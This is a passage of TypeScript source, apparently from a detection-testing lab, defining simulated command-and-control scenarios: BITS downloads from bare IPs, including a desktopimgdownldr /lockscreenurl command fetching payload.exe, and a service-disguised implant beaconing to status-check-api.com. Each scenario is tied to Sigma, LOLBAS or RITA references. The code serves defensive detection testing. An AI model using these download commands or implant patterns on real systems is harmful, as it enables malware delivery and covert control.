      const svc = ctx.proc({ image: SVCHOST, commandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS', parentImage: `${SYS32}\\services.exe`, user: SYSTEM });
      await svc.http({ url: `http://${ip}:8080/a.exe`, method: 'HEAD', headers: winHeaders(UA_BITS), response: { type: 'application/octet-stream', bytes: 0 } });
      await svc.http({ url: `http://${ip}:8080/a.exe`, headers: winHeaders(UA_BITS, [['Range', 'bytes=0-98303']]), response: { status: 206, type: 'application/octet-stream', bytes: 98_304 } });
    },
  },
  {
    id: 'c2-bits-desktopimgdownldr',
    label: 'c2',
    cls: 'bits-bare-ip',
    title: 'desktopimgdownldr /lockscreenurl:http://<ip>/payload.exe (download through BITS)',
    sources: ['LOLBAS Desktopimgdownldr.exe', SIGMA('8ccd35a2-1c7c-468b-b568-ac6cdf80eec3', 'Bitsadmin to Uncommon IP Server Address')],
    expect: [WHY.bits, WHY.bareIp],
    async play(ctx) {
      const ip = ctx.lab.bareIp('desktopimgdownldr');
      ctx.proc({ image: `${SYS32}\\desktopimgdownldr.exe`, commandLine: `desktopimgdownldr.exe /lockscreenurl:http://${ip}/payload.exe /eventName:desktopimgdownldr`, parentImage: `${SYS32}\\cmd.exe` });
      const svc = ctx.proc({ image: SVCHOST, commandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS', parentImage: `${SYS32}\\services.exe`, user: SYSTEM });
      await svc.http({ url: `http://${ip}/payload.exe`, method: 'HEAD', headers: winHeaders(UA_BITS), response: { type: 'application/octet-stream', bytes: 0 } });
      await svc.http({ url: `http://${ip}/payload.exe`, headers: winHeaders(UA_BITS, [['Range', 'bytes=0-65535']]), response: { status: 206, type: 'application/octet-stream', bytes: 65_536 } });
    },
  },
];

const httpBeaconClass: Scenario[] = [
  {
    id: 'c2-beacon-http-poll-fixed-id',
    label: 'c2',
    cls: 'beacon',
    title: 'Service-named implant in ProgramData polls /api/v1/poll?id=<fixed> every 1.5 s (±10 %), tiny answers',
    sources: ['RITA beacon analysis (activecm/rita: connection-interval and data-size regularity)', 'MITRE ATT&CK T1071.001'],
    expect: [WHY.beacon],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: 'C:\\ProgramData\\WindowsHealth\\healthsvc.exe', parentImage: `${SYS32}\\services.exe`, user: SYSTEM });
      const id = hex(ctx.rng, 16);
      await every(ctx, 8, 1500, 0.1, () => p.http({ url: `http://status-check-api.com/api/v1/poll?id=${id}`, headers: winHeaders(UA_CHROME), response: { type: 'application/json', bytes: 42 } }));
    },
  },
];

export const c2HttpScenarios: readonly Scenario[] = [...uriClass, ...exfilClass, ...scriptClass, ...frameworkClass, ...stagerClass, ...lolbinNewClass, ...bitsClass, ...httpBeaconClass];
